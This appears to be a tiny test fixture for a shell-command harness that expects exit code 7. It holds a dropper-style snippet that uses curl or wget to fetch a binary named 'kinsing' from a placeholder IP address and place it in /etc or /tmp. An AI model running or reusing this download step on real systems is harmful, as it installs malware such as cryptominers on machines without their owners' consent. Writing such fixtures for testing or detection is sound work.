# on: all
# want: rc=7
BIN_URL=http://198.51.100.33/kinsing; BIN_FULL_PATH=/etc/kinsing; [ -w /etc ] || BIN_FULL_PATH=/tmp/kinsing
download() { if [ -x "$(command -v curl)" ]; then curl -fsSL $1 -o $2; elif [ -x "$(command -v wget)" ]; then wget -q -O $2 $1; else return 9; fi; }
download $BIN_URL $BIN_FULL_PATH; echo rc=$?
